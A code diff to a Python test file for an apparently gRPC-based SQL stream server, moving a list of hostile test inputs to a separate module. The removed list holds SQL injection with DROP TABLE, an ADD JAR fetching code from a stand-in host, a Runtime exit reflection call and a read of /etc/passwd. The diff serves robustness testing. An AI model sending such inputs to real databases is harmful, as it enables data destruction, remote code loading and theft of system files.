@@ -19,6 +19,7 @@ from google.protobuf import descriptor_pb2
 from grpc_reflection.v1alpha import reflection_pb2, reflection_pb2_grpc
 from tests.python.cases import cases
 from tests.python.endpoint import Endpoint, until
+from tests.python.hostile import HOSTILE
 
 from plait._proto import plait_pb2
 from plait.server import config, messages
@@ -251,16 +252,6 @@ def _fill_stream(random_: random.Random, request: plait_pb2.StartStreamRequest) 
             request.nowhere.SetInParent()
             request.trigger.available_now.SetInParent()
 
-
-# As the engine has no Spark, what is seen here is that they go through the server as they are.
-HOSTILE = [
-    "'; DROP TABLE t; --",
-    "ADD JAR 'http://evil.example/x.jar'",
-    "SELECT reflect('java.lang.Runtime', 'exit', 1)",
-    "SELECT * FROM parquet.`/etc/passwd`",
-    "SELECT " + "(" * 20_000,
-    "/* \u202e */ SELECT 1 \ud7ff\x07\x1b[2J",
-]
 
 NAMES = ["", "o", "o" * 200, "{}", "ü"]
 WRONG_FIELDS: dict[str, list[object]] = {
